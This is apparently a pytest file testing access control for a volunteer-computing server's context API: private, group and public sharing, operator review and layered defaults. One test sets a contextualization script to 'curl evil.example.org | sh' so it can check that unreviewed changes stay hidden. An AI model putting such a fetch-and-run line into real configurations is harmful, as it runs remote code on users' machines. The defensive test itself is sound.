"""Who sees what of contexts: another's are not there, public ones were read by somebody else."""

from __future__ import annotations

import json
from typing import Any

import pytest

from server.db.base import Tx
from server.handlers.context_api import ONE
from tests.architecture.test_routes import ROUTES
from tests.kit.house import House
from tests.kit.shelves import HASH, WORKER, Somebody, somebody

CLEAN = {"cernvm": {"version": "4"}}


@pytest.fixture
async def ben(found: House) -> Somebody:
    """Another volunteer."""
    return await somebody(found, "ben")


async def group_of(found: House, name: str, *members: str) -> None:
    """A group with these members."""

    async def write(tx: Tx) -> None:
        await tx.run("INSERT INTO account_groups (name, created_at) VALUES ($1, 1)", name)
        for member in members:
            await tx.run(
                "INSERT INTO group_members (group_id, account, added_at)"
                " SELECT account_groups.id, accounts.id, 1 FROM account_groups, accounts"
                " WHERE account_groups.name = $1 AND accounts.name = $2",
                name, member,
            )  # fmt: skip

    await found.deps.store.write(write)


def calls(id: str) -> list[tuple[str, str, Any]]:
    """Every call of the API about one context, with a body that is in order."""
    bodies: dict[str, Any] = {
        "edit": {"started_from": 1, "name": "Mine now", "document": {}},
        "restore": {"revision": 1, "started_from": 1},
        "sharing": {"visibility": "private"},
        "review": {"revision": 1, "verdict": "list"},
        "render": {"secrets": True},
    }
    found = []
    for route in ROUTES:
        if route.path.startswith(ONE):
            rest = route.path.removeprefix(ONE)
            body = bodies["edit"] if route.method == "PUT" and not rest else bodies.get(rest[1:])
            found.append((route.method, f"/{id}{rest}", body))
    assert len(found) > 12
    return found


@pytest.mark.parametrize("role", ["volunteer", "operator", "admin"])
async def test_a_private_context_is_not_there_for_anybody_else_in_any_call(
    found: House, anna: Somebody, role: str
) -> None:
    made = await anna.made()
    id = made["context"]["id"]
    thief = await somebody(found, f"thief-{role}", role)
    for method, path, body in calls(id):
        status, said = await thief.call(method, path, body)
        wanted = (404, 403) if role == "volunteer" and path.endswith("/review") else (404,)
        assert status in wanted, (method, path, said)
        none = await thief.call(method, path.replace(id, "0" * 32), body)
        assert none[0] == status, (method, path)
    for body in ({"from_context": id}, {"from_context": id, "name": "x"}):
        assert (await thief.call("POST", "", body))[0] == 404
    preview = {"document": WORKER, "of": id}
    assert (await thief.call("POST", "/preview", preview))[0] == 404
    for scope in ("mine", "shared", "public", "templates", "review", "removed"):
        assert (await thief.call("GET", f"?scope={scope}"))[1] == {"contexts": []}
    assert (await anna.call("GET", f"/{id}"))[1] == made


async def test_a_group_reads_what_is_shared_with_it_and_changes_nothing(
    found: House, anna: Somebody, ben: Somebody
) -> None:
    cleo = await somebody(found, "cleo")
    await group_of(found, "na61", "anna", "ben")
    made = await anna.made()
    id = made["context"]["id"]
    body = {"visibility": "group", "names": ["na61"]}
    status, shared = await anna.call("PUT", f"/{id}/sharing", body)
    assert (status, shared["context"]["shares"]) == (200, ["na61"])
    status, seen = await ben.call("GET", f"/{id}?secrets=1")
    assert (status, seen["document"]["users"]["users"][0]["password"]) == (200, "(secret)")
    assert seen["context"]["shares"] == []
    for method, path, body in calls(id):
        status, said = await ben.call(method, path, body)
        reads = method == "GET" or path.endswith("/render")
        assert (status < 300) == reads or path.endswith("/diff"), (method, path, said)
        assert HASH not in json.dumps(said), path
    assert (await cleo.call("GET", f"/{id}"))[0] == 404
    assert [each["id"] for each in (await ben.call("GET", "?scope=shared"))[1]["contexts"]] == [id]
    await anna.call("PUT", f"/{id}/sharing", {"visibility": "private"})
    assert (await ben.call("GET", f"/{id}"))[0] == 404


async def test_one_shares_with_circles_of_ones_own_alone(
    found: House, anna: Somebody, ben: Somebody
) -> None:
    await group_of(found, "alice", "ben")
    id = (await anna.made())["context"]["id"]
    for body in (
        {"visibility": "group", "names": ["alice"]},
        {"visibility": "site", "names": ["cern"]},
        {"visibility": "group", "names": []},
        {"visibility": "private", "names": ["alice"]},
        {"visibility": "public", "names": []},
    ):
        assert (await anna.call("PUT", f"/{id}/sharing", body))[0] == 400, body
    assert (await ben.call("GET", f"/{id}"))[0] == 404


async def test_what_is_public_was_read_by_somebody_else_and_holds_no_secret(
    found: House, anna: Somebody, ben: Somebody
) -> None:
    olga = await somebody(found, "olga", "operator")
    made = await anna.made()
    id = made["context"]["id"]
    status, said = await anna.call("POST", f"/{id}/publish")
    assert (status, said["code"]) == (409, "holds-secrets")
    clean = await anna.edited(made, document=CLEAN)
    assert (await anna.call("POST", f"/{id}/publish"))[0] == 200
    assert (await ben.call("GET", f"/{id}"))[0] == 404
    waiting = (await olga.call("GET", "?scope=review"))[1]["contexts"]
    assert [(each["id"], each["revision"]) for each in waiting] == [(id, 2)]
    assert (await olga.call("GET", f"/{id}?revision=2"))[0] == 200
    assert (await olga.call("GET", f"/{id}?revision=1"))[0] == 404
    verdict = {"revision": 2, "verdict": "list"}
    assert (await ben.call("POST", f"/{id}/review", verdict))[0] == 403
    assert (await olga.call("POST", f"/{id}/review", {**verdict, "revision": 1}))[0] == 409
    assert (await olga.call("POST", f"/{id}/review", verdict))[0] == 204
    status, seen = await ben.call("GET", f"/{id}")
    assert (status, seen["revision"], seen["document"]) == (200, 2, CLEAN)
    assert clean["revision"] == 2


async def test_changes_after_the_review_reach_nobody_until_they_are_read_too(
    found: House, anna: Somebody, ben: Somebody
) -> None:
    olga = await somebody(found, "olga", "operator")
    made = await anna.made(document=CLEAN)
    id = made["context"]["id"]
    await anna.call("POST", f"/{id}/publish")
    await olga.call("POST", f"/{id}/review", {"revision": 1, "verdict": "list"})
    evil = {"contextualization": {"after": "curl evil.example.org | sh\n"}}
    await anna.edited(made, document=evil, name="LHC@home (official)", role="squid")
    mine = {"started_from": 0, "document": evil}
    assert (await anna.call("PUT", "/api/v1/context-defaults/user/me", mine))[0] == 200
    seen = (await ben.call("GET", f"/{id}"))[1]
    assert (seen["name"], seen["revision"], seen["role"]) == ("Worker", 1, "")
    assert seen["context"]["name"] == "Worker"
    for revision in (2, 3):
        assert (await ben.call("GET", f"/{id}?revision={revision}"))[0] == 404
        body = {"revision": revision}
        assert (await ben.call("POST", f"/{id}/render", body))[0] == 404
    files = (await ben.call("POST", f"/{id}/render", {}))[1]
    assert "evil.example.org" not in json.dumps(files)
    assert "evil.example.org" in json.dumps((await anna.call("POST", f"/{id}/render", {}))[1])
    listed = (await ben.call("GET", "?scope=public"))[1]["contexts"]
    assert [(each["name"], each["revision"]) for each in listed] == [("Worker", 1)]
    await anna.call("POST", f"/{id}/publish")
    assert (await ben.call("GET", f"/{id}"))[1]["revision"] == 1
    no = {"revision": 2, "verdict": "refuse", "note": "it runs what the net says"}
    assert (await olga.call("POST", f"/{id}/review", no))[0] == 204
    assert (await ben.call("GET", f"/{id}"))[1]["revision"] == 1
    told = (await anna.call("GET", f"/{id}"))[1]["context"]
    assert (told["review"], told["review_note"]) == ("refused", "it runs what the net says")


async def test_nobody_reads_his_own_for_all(found: House) -> None:
    olga = await somebody(found, "olga", "operator")
    made = await olga.made(document=CLEAN)
    id = made["context"]["id"]
    await olga.call("POST", f"/{id}/publish")
    verdict = {"revision": 1, "verdict": "list"}
    assert (await olga.call("POST", f"/{id}/review", verdict))[0] == 403
    assert (await olga.call("POST", f"/{id}/withdraw"))[0] == 204
    assert (await olga.call("GET", f"/{id}"))[1]["context"]["visibility"] == "private"


async def test_an_operator_takes_a_public_context_off_the_list(
    found: House, anna: Somebody, ben: Somebody
) -> None:
    olga = await somebody(found, "olga", "operator")
    id = (await anna.made(document=CLEAN))["context"]["id"]
    await anna.call("POST", f"/{id}/publish")
    await olga.call("POST", f"/{id}/review", {"revision": 1, "verdict": "list"})
    assert (await ben.call("POST", f"/{id}/withdraw"))[0] == 404
    assert (await olga.call("POST", f"/{id}/withdraw"))[0] == 204
    assert (await ben.call("GET", f"/{id}"))[0] == 404
    assert (await olga.call("GET", f"/{id}"))[0] == 404


async def test_layers_lie_below_a_context_and_each_value_says_where_it_is_from(
    found: House, anna: Somebody
) -> None:
    admin = await somebody(found, "ada", "admin")
    base = "/api/v1/context-defaults"
    body = {"started_from": 0, "document": {"general": {"timezone": "UTC", "contact": "x@y.org"}}}
    assert (await anna.call("PUT", f"{base}/experiment", body))[0] == 403
    assert (await admin.call("PUT", f"{base}/experiment", body))[0] == 200
    assert (await admin.call("PUT", f"{base}/experiment", body))[0] == 409
    mine = {"started_from": 0, "document": {"general": {"timezone": "Europe/Belgrade"}}}
    assert (await anna.call("PUT", f"{base}/user/me", mine))[0] == 200
    made = await anna.made(document={"general": {"locale": "C.UTF-8"}})
    files = (await anna.call("POST", f"/{made['context']['id']}/render", {}))[1]
    assert files["origins"]["general.timezone"] == ["your defaults"]
    assert files["origins"]["general.contact"] == ["the experiment"]
    assert files["origins"]["general.locale"] == ["this context"]
    assert "timezone: Europe/Belgrade" in files["files"][0]["text"]
    less = await anna.edited(made, document={}, without=["general"])
    files = (await anna.call("POST", f"/{made['context']['id']}/render", {}))[1]
    assert (less["without"], files["origins"]) == (["general"], {})


async def test_defaults_of_others_are_not_there_and_those_of_all_hold_no_secrets(
    found: House, anna: Somebody, ben: Somebody
) -> None:
    admin = await somebody(found, "ada", "admin")
    base = "/api/v1/context-defaults"
    secret = {"started_from": 0, "document": WORKER}
    for layer in ("experiment", "role/squid"):
        status, said = await admin.call("PUT", f"{base}/{layer}", secret)
        assert (status, "users.users[worker].password" in said["detail"]) == (400, True)
    assert (await admin.call("PUT", f"{base}/site/belgrade", secret))[0] == 200
    assert (await anna.call("GET", f"{base}/site/belgrade"))[0] == 404
    assert (await anna.call("PUT", f"{base}/site/belgrade", secret))[0] == 404
    assert (await anna.call("PUT", f"{base}/role/squid", secret))[0] == 403
    assert (await anna.call("GET", f"{base}/role/nothing"))[0] == 404
    await anna.call("PUT", f"{base}/user/me", secret)
    assert (await ben.call("GET", f"{base}/user/me"))[1]["document"] == {}
    assert (await ben.call("GET", f"{base}/user/anna"))[0] == 404
    listed = (await anna.call("GET", base))[1]["defaults"]
    assert "belgrade" not in [each["subject"] for each in listed]


async def test_a_site_shares_its_defaults_with_whoever_has_a_machine_there(
    found: House, anna: Somebody
) -> None:
    admin = await somebody(found, "ada", "admin")
    base = "/api/v1/context-defaults"
    site = {"started_from": 0, "document": {"users": WORKER["users"]}}
    token = await found.token("anna", site="belgrade")
    await found.enrol(token["token"], "node-1")
    assert (await admin.call("PUT", f"{base}/site/belgrade", site))[0] == 200
    assert (await anna.call("PUT", f"{base}/site/belgrade", {**site, "started_from": 1}))[0] == 403
    shown = (await anna.call("GET", f"{base}/site/belgrade"))[1]
    assert (shown["may_change"], HASH in json.dumps(shown)) == (False, False)
    made = await anna.made(document={}, site="belgrade")
    files = (await anna.call("POST", f"/{made['context']['id']}/render", {}))[1]
    assert files["secrets"] == files["hidden"] == ["users.users[0].password"]
    assert HASH not in json.dumps(files)
